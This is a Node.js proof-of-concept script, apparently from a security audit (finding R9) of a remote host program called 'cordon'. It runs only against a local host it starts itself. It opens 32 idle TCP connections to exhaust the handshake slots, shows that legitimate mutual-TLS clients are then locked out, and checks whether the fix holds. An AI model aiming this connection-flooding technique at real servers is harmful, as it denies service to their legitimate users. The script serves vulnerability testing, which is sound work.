'use strict';
// R9 (medium, remote host): the host's handshake cap (`handshake.maxConcurrent`, 32) is
// one pool for every peer, taken at the TCP accept and held up to `firstFrameMs` (5 s)
// before a byte is read. An UNAUTHENTICATED peer that opens 32 TCP connections to the
// TLS port and sends nothing — no TLS ClientHello — fills it, and every legitimate
// client (a valid client certificate here) is closed at once, with an error that blames
// its credentials. Re-opening 32 connections every 5 s keeps the host unusable.
//   node remote-handshake-slots.js          attack for ~12 s while a legit client runs once a second
//   node remote-handshake-slots.js control  the same legit client with no idle connections
//   node remote-handshake-slots.js same-address  the attacker on the legit client's own
//     address (127.0.0.1): after the fix (a share per source) still VULNERABLE by design —
//     the host cannot tell two peers behind one address apart (docs/remote.md § Handshake
//     slots). By default the attacker connects from 127.0.0.2 (loopback), the client from
//     127.0.0.1.
// Starts its own `cordon host` (mutual TLS on 127.0.0.1, certificates from openssl) and
// removes it and its directory at the end. VULNERABLE when the legit runs failed.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const net = require('node:net');
const { spawn, execFileSync } = require('node:child_process');
const pkg = path.resolve(__dirname, '../../../..');
const { connectRemote } = require(path.join(pkg, 'lib/remote'));

function certificates(dir) {
  const o = (args) => execFileSync('openssl', args, { cwd: dir, stdio: ['ignore', 'ignore', 'ignore'] });
  const ec = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'];
  o(['req', '-x509', ...ec, '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2', '-subj', '/CN=r9-ca', '-addext', 'basicConstraints=critical,CA:TRUE', '-addext', 'keyUsage=critical,keyCertSign,cRLSign']);
  for (const [n, cn, ext] of [['server', '127.0.0.1', 'subjectAltName=IP:127.0.0.1\nextendedKeyUsage=serverAuth\nbasicConstraints=CA:FALSE\n'], ['client', 'tenant-a', 'extendedKeyUsage=clientAuth\nbasicConstraints=CA:FALSE\n']]) {
    o(['req', ...ec, '-keyout', `${n}.key`, '-out', `${n}.csr`, '-subj', `/CN=${cn}`]);
    fs.writeFileSync(path.join(dir, `${n}.ext`), ext);
    o(['x509', '-req', '-in', `${n}.csr`, '-CA', 'ca.pem', '-CAkey', 'ca.key', '-CAcreateserial', '-out', `${n}.pem`, '-days', '2', '-extfile', `${n}.ext`]);
    o(['pkcs8', '-topk8', '-nocrypt', '-in', `${n}.key`, '-out', `${n}.p8`]);
  }
}

async function freePort() {
  return new Promise((resolve) => { const s = net.createServer().listen(0, '127.0.0.1', () => { const { port } = s.address(); s.close(() => resolve(port)); }); });
}

async function main() {
  const control = process.argv[2] === 'control';
  const attackerAddress = process.argv[2] === 'same-address' ? '127.0.0.1' : '127.0.0.2';
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'r9-slots-'));
  certificates(dir);
  fs.mkdirSync(path.join(dir, 'state'), { mode: 0o700 });
  const port = await freePort();
  const config = { listen: { tcp: `127.0.0.1:${port}` }, tls: { cert: path.join(dir, 'server.pem'), key: path.join(dir, 'server.p8'), clientCa: path.join(dir, 'ca.pem') }, stateDir: path.join(dir, 'state'), programs: { true: '/bin/true' } };
  fs.writeFileSync(path.join(dir, 'host.json'), JSON.stringify(config));
  const host = spawn(path.join(pkg, 'target/release/cordon'), ['host', '--config', path.join(dir, 'host.json')], { stdio: ['ignore', 'ignore', 'pipe'] });
  const idle = [];
  let attacking = !control;
  try {
    await new Promise((resolve, reject) => {
      let err = ''; host.stderr.on('data', (d) => { err += d; if (err.includes('listening')) resolve(); });
      host.on('exit', (c) => reject(new Error(`host exited ${c}: ${err}`)));
    });
    const remote = connectRemote({ url: `tls://127.0.0.1:${port}`, tls: { ca: fs.readFileSync(path.join(dir, 'ca.pem')), cert: fs.readFileSync(path.join(dir, 'client.pem')), key: fs.readFileSync(path.join(dir, 'client.key')) } });
    const legit = async () => {
      try { const r = await remote.spawnIsolated(['true'], { policy: remote.readOnly() }); const w = await r.wait(); return `ok ${w.returncode}`; }
      catch (e) { return `${e.code}`; }
    };
    console.log('legit run before:', await legit());
    // the attacker: 32 plain TCP connections, nothing sent, re-opened as the host drops them
    const open = () => { const s = net.connect({ port, host: '127.0.0.1', localAddress: attackerAddress }); s.on('error', () => {}); s.on('close', () => { if (attacking) idle.push(open()); }); return s; };
    if (attacking) for (let i = 0; i < 32; i++) idle.push(open());
    await new Promise((r) => setTimeout(r, 300));
    const results = [];
    for (let i = 0; i < 12; i++) { results.push(await legit()); await new Promise((r) => setTimeout(r, 1000)); }
    attacking = false; for (const s of idle) s.destroy();
    const failed = results.filter((r) => !r.startsWith('ok')).length;
    const counts = {}; for (const r of results) counts[r] = (counts[r] || 0) + 1;
    console.log(`${control ? 'no attacker' : '32 idle TCP connections (never a TLS byte)'}: legit runs over ~12 s:`, counts);
    await new Promise((r) => setTimeout(r, 500));
    console.log('legit run after:', await legit());
    console.log(control ? (failed === 0 ? 'control ok' : 'control FAILED') : (failed === results.length ? 'VULNERABLE: an unauthenticated peer locks every client out of the host' : failed ? `partly: ${failed} of ${results.length} failed` : 'held'));
  } finally {
    attacking = false; for (const s of idle) s.destroy();
    host.kill('SIGTERM');
    await new Promise((r) => (host.exitCode !== null ? r() : host.on('exit', r)));
    fs.rmSync(dir, { recursive: true, force: true });
  }
}
main().catch((e) => { console.error(e); process.exitCode = 1; });
